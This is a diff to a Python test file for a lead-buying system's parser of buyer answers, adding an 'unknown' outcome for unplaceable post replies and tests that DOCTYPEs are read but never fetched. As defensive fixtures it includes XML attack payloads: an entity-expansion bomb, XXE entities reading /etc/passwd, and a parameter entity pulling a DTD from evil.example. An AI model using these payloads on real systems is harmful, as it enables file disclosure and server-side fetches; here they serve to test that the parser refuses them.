@@ -1,11 +1,13 @@
 """A buyer's answer in its own dialect → what it means (pingtree/codec/response.py, locate.py).
 
 Every row is an answer a real buyer gives. The rule under them all: an answer the map cannot place
-is a Failure quoting the start of the body, never a bid and never a sale.
+is a Failure quoting the start of the body, never a bid and never a sale; to a post, a 2xx the map
+cannot place is not a no either (DESIGN §8, v3): it is Unknown, `post_unknown`.
 """
 
 from __future__ import annotations
 
+import socket
 from decimal import Decimal
 from typing import Any
 
@@ -17,6 +19,7 @@ from pingtree.codec import (
     Bid,
     Decline,
     Failure,
+    Unknown,
     parse_ping_answer,
     parse_post_answer,
     read_ping_answer,
@@ -34,7 +37,10 @@ def answer(story: str, raw: bytes | Any, expected: Any, *, status: int = 200) ->
 
 
 def check(result: Any, expected: Any) -> None:
-    if isinstance(expected, tuple):
+    if isinstance(expected, tuple) and expected[0] == "post_unknown":
+        assert isinstance(result, Unknown), result
+        assert result.status == 200 and result.detail.startswith(expected[1]), result
+    elif isinstance(expected, tuple):
         reason, detail = expected
         assert isinstance(result, Failure), result
         assert (result.reason, result.detail[: len(detail)]) == (reason, detail), result
@@ -49,6 +55,7 @@ def bid(price: str, bid_id: str | None = None, expires: float | None = None, **c
 
 
 UNKNOWN = "bad_response", "unknown answer: "
+POST_UNKNOWN = "post_unknown", "HTTP 200, unknown answer: "
 NO_PRICE = "bad_response", "accepted without a readable price"
 
 # JSON ---------------------------------------------------------------------------------------------
@@ -294,15 +301,16 @@ JSON_POST = json_map(
             Decline("contact exists"),
         ),
         answer("refused without a reason", {"status": "failed"}, Decline("rejected")),
-        answer("a 200 'queued' is not a sale", {"status": "queued"}, UNKNOWN),
+        answer("a 200 'queued' is not a sale, nor a no", {"status": "queued"}, POST_UNKNOWN),
         answer(
             "HTTP 500 with success", {"status": "success"}, ("http_error", "HTTP 500"), status=500
         ),
         answer(
-            "an HTML thank-you page with 200 is not a sale",
+            "an HTML thank-you page with 200 is not a sale, nor a no",
             b"<html>Thank you!</html>",
-            ("bad_response", "not JSON: <html>Thank you!</html>"),
+            ("post_unknown", "HTTP 200, not JSON: <html>Thank you!</html>"),
         ),
+        answer("an empty 200", b"", ("post_unknown", "HTTP 200, empty body")),
     ],
 )
 def test_json_post_answers(status: int, raw: bytes, expected: Any) -> None:
@@ -328,6 +336,7 @@ def xml_map(status: str = "status", **keys: Any) -> ResponseMap:
 
 
 XML_PING = xml_map()
+ENTITIES_REFUSED = "bad_response", "XML declaring entities refused"
 MATCHED = (
     b"<response><status>Matched</status><price>$22.50</price>"
     b"<ping_token>t-1</ping_token></response>"
@@ -397,9 +406,9 @@ XML_PING_CASES = [
         ("bad_response", "unknown answer: <html><body>Service Unavailable</body></html>"),
     ),
     answer(
-        "an HTML page that is not XML",
+        "an HTML page that is not XML, quoted from after its doctype",
         b"<!DOCTYPE html><html><body>Error<br></body></html>",
-        ("bad_response", "XML with a DTD or entities refused: <!DOCTYPE html>"),
+        ("bad_response", "not XML: <html><body>Error<br></body></html>"),
     ),
     answer(
         "HTML without a doctype, not well-formed",
@@ -416,19 +425,19 @@ XML_PING_CASES = [
         b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
         b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
         b"<response><status>&lol2;</status></response>",
-        ("bad_response", "XML with a DTD or entities refused"),
+        ENTITIES_REFUSED,
     ),
     answer(
         "an external entity (XXE)",
         b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
         b"<response><status>&x;</status></response>",
-        ("bad_response", "XML with a DTD or entities refused"),
+        ENTITIES_REFUSED,
     ),
     answer(
-        "a DTD alone",
+        "a DOCTYPE naming an outside DTD is read (and not fetched)",
         b'<?xml version="1.0"?><!DOCTYPE response SYSTEM "http://buyer.example/r.dtd">'
         b"<response><status>Matched</status><price>5</price></response>",
-        ("bad_response", "XML with a DTD or entities refused"),
+        bid("5"),
     ),
     answer(
         "very deep nesting is read without an exception",
@@ -499,6 +508,14 @@ def test_a_predicate_picks_among_repeated_elements() -> None:
     assert read_ping_answer(response, 200, body) == bid("19.99")
 
 
+# What one real buyer answers a post it took: its DTD named, a status word of its own.
+STANDARD_SUCCESS = (
+    b'<?xml version="1.0" encoding="UTF-8"?>\n'
+    b'<!DOCTYPE response SYSTEM "https://buyer.example/dtd/response.dtd">\n'
+    b"<response><status>Success</status><lead_id>B-20931</lead_id>"
+    b"<message>Lead received</message></response>"
+)
+
 XML_POST = ResponseMap.model_validate(
     {
         "format": "xml",
@@ -532,14 +549,126 @@ XML_POST = ResponseMap.model_validate(
             Decline("outside area"),
         ),
         answer(
-            "pending review is not a sale",
+            "pending review is not a sale, nor a no",
             b"<response><status>Pending review</status></response>",
-            UNKNOWN,
+            POST_UNKNOWN,
+        ),
+        answer(
+            "a buyer's standard success answer the map does not know",
+            STANDARD_SUCCESS,
+            ("post_unknown", "HTTP 200, unknown answer: <response><status>Success</status>"),
+        ),
+        answer(
+            "an HTML page with 200",
+            b"<!DOCTYPE html>\n<html><body><h1>Thank you</h1></body></html>",
+            ("post_unknown", "HTTP 200, unknown answer: <html><body><h1>Thank you</h1>"),
         ),
     ],
 )
 def test_xml_post_answers(status: int, raw: bytes, expected: Any) -> None:
     check(read_post_answer(XML_POST, status, raw), expected)
+
+
+def test_without_rejected_a_word_the_map_does_not_know_declines_a_ping_but_not_a_post() -> None:
+    """A ping's "no" costs nothing; a post's could sell the lead twice: only a refusal the map
+    names lets a post's lead go on."""
+    response = json_map(accepted={"path": "status", "values": ["success"]}, price={"path": "bid"})
+    raw = b'{"status": "received", "id": "L-1"}'
+    assert read_ping_answer(response, 200, raw) == Decline("declined")
+    assert read_post_answer(response, 200, raw) == Unknown(
+        'HTTP 200, unknown answer: {"status": "received", "id": "L-1"}', 200
+    )
+
+
+# DOCTYPE lines: real buyers name their DTD; it is read, never fetched; entities stay refused (§8b)
+
+DECLARATION = b'<?xml version="1.0" encoding="UTF-8"?>'
+ACCEPTED = b"<response><status>Accepted</status><lead_id>B-7</lead_id></response>"
+
+
+def doctype_case(story: str, prolog: bytes, expected: Any, body: bytes = ACCEPTED) -> Any:
+    return pytest.param(prolog + body, expected, id=story)
+
+
+@pytest.mark.parametrize(
+    ("raw", "expected"),
+    [
+        doctype_case(
+            "SYSTEM with an https DTD, as real buyers send",
+            DECLARATION + b'<!DOCTYPE response SYSTEM "https://buyer.example/dtd/response.dtd">',
+            Accepted("B-7", None),
+        ),
+        doctype_case(
+            "on lines of its own",
+            DECLARATION + b'\n<!DOCTYPE response SYSTEM\n  "https://buyer.example/r.dtd">\n',
+            Accepted("B-7", None),
+        ),
+        doctype_case(
+            "PUBLIC with a formal id",
+            b'<!DOCTYPE response PUBLIC "-//Buyer//DTD Response 1.0//EN" '
+            b'"http://buyer.example/dtd/response.dtd">',
+            Accepted("B-7", None),
+        ),
+        doctype_case(
+            'standalone="no" says the outside DTD matters: it is still not fetched',
+            b'<?xml version="1.0" standalone="no"?>'
+            b'<!DOCTYPE response SYSTEM "https://buyer.example/r.dtd">',
+            Accepted("B-7", None),
+        ),
+        doctype_case("a name only", b"<!DOCTYPE response>", Accepted("B-7", None)),
+        doctype_case(
+            "an entity the outside DTD would define is not read from it",
+            b'<!DOCTYPE response SYSTEM "https://buyer.example/r.dtd">',
+            ("post_unknown", "HTTP 200, not XML: <response><status>&ok;</status>"),
+            body=b"<response><status>&ok;</status></response>",
+        ),
+        doctype_case(
+            "an internal subset declaring an entity",
+            b'<!DOCTYPE response SYSTEM "https://buyer.example/r.dtd" [<!ENTITY ok "Accepted">]>',
+            ("post_unknown", "HTTP 200, XML declaring entities refused: <response>"),
+            body=b"<response><status>&ok;</status></response>",
+        ),
+        doctype_case(
+            "a parameter entity pulling in an outside DTD",
+            b'<!DOCTYPE response [<!ENTITY % ext SYSTEM "https://evil.example/x.dtd"> %ext;]>',
+            ("post_unknown", "HTTP 200, XML declaring entities refused"),
+        ),
+        doctype_case(
+            "an external entity in the internal subset (XXE)",
+            b'<!DOCTYPE response [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
+            ("post_unknown", "HTTP 200, XML declaring entities refused"),
+            body=b"<response><status>&x;</status></response>",
+        ),
+    ],
+)
+def test_a_doctype_is_read_and_entity_declarations_are_refused(raw: bytes, expected: Any) -> None:
+    check(read_post_answer(XML_POST, 200, raw), expected)
+
+
+def test_a_ping_answer_with_a_doctype_is_a_bid() -> None:
+    raw = DECLARATION + b'<!DOCTYPE response SYSTEM "https://buyer.example/dtd/r.dtd">' + MATCHED
+    assert read_ping_answer(XML_PING, 200, raw) == bid("22.50", token="t-1")
+
+
+def test_nothing_a_doctype_or_an_entity_names_is_fetched() -> None:
+    """Every way an XML answer can name an outside resource points at a local listener; after
+    reading them all, the listener has no connection waiting: nothing was fetched."""
+    with socket.create_server(("127.0.0.1", 0)) as listener:
+        url = f"http://127.0.0.1:{listener.getsockname()[1]}"
+        answers = [
+            f'<!DOCTYPE response SYSTEM "{url}/r.dtd"><response><status>OK</status></response>',
+            f'<!DOCTYPE response PUBLIC "-//B//DTD R//EN" "{url}/r.dtd"><response/>',
+            f'<?xml version="1.0" standalone="no"?><!DOCTYPE response SYSTEM "{url}/r.dtd">'
+            "<response><status>&ok;</status></response>",
+            f'<!DOCTYPE r [<!ENTITY % p SYSTEM "{url}/p.dtd"> %p;]><r/>',
+            f'<!DOCTYPE r [<!ENTITY x SYSTEM "{url}/x">]><r>&x;</r>',
+        ]
+        for text in answers:
+            read_post_answer(XML_POST, 200, text.encode())
+            read_ping_answer(XML_PING, 200, text.encode())
+        listener.setblocking(False)
+        with pytest.raises(BlockingIOError):
+            listener.accept()
 
 
 # text ---------------------------------------------------------------------------------------------
@@ -603,7 +732,7 @@ TEXT_POST = ResponseMap.model_validate(
         ),
         answer("ERROR bad zip", b"ERROR bad zip", Decline("bad zip")),
         answer("ERROR alone", b"ERROR", Decline("rejected")),
-        answer("Thank you is not a sale", b"Thank you", UNKNOWN),
+        answer("Thank you is not a sale, nor a no", b"Thank you", POST_UNKNOWN),
     ],
 )
 def test_text_post_answers(status: int, raw: bytes, expected: Any) -> None:
@@ -658,8 +787,40 @@ def test_read_price(found: Any, price: str | None) -> None:
     ("body", "shown"),
     [
         pytest.param(b"  a \n\t b  ", "a b", id="whitespace collapsed"),
-        pytest.param(b"x" * 500, "x" * 120, id="cut to 120 characters"),
-        pytest.param("é".encode() * 200, "é" * 120, id="120 characters, not bytes"),
+        pytest.param(b"word " * 100, ("word " * 100).strip(), id="500 characters kept whole"),
+        pytest.param(
+            "ééé ".encode() * 300, "ééé " * 125 + "ééé…", id="characters, not bytes; a cut marked"
+        ),
+        pytest.param(b"x" * 1000, "x" * 580 + "…", id="a word longer than 80 past the cut is cut"),
+        pytest.param(
+            b"a" * 490 + b" maria.gonzalez@example.com and more",
+            "a" * 490 + " maria.gonzalez@example.com…",
+            id="never inside a word: an email is whole, so it can be redacted",
+        ),
+        pytest.param(
+            b"a" * 494 + b" (305) 555 1234 and more",
+            "a" * 494 + " (305) 555 1234…",
+            id="never inside a number written in groups: a phone is whole",
+        ),
+        pytest.param(
+            b'<?xml version="1.0" encoding="UTF-8"?>\n'
+            b'<!DOCTYPE response SYSTEM "https://buyer.example/dtd/response.dtd">\n'
+            b"<!-- generated --><response><status>Success</status></response>",
+            "<response><status>Success</status></response>",
+            id="an XML prolog skipped: declaration, DOCTYPE, comment",
+        ),
+        pytest.param(
+            b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "b">]><r>&a;</r>',
+            "<r>&a;</r>",
+            id="a DOCTYPE's internal subset skipped with it",
+        ),
+        pytest.param(
+            b"<!doctype html>\n<html><head><title>502 Bad Gateway</title></head></html>",
+            "<html><head><title>502 Bad Gateway</title></head></html>",
+            id="an HTML doctype skipped",
+        ),
+        pytest.param(b'<?xml version="1.0"?>', '<?xml version="1.0"?>', id="a prolog alone kept"),
+        pytest.param(b"\xef\xbb\xbfOK", "OK", id="a BOM dropped"),
         pytest.param(b"ok \xff", "ok \ufffd", id="bad UTF-8 replaced"),
     ],
 )
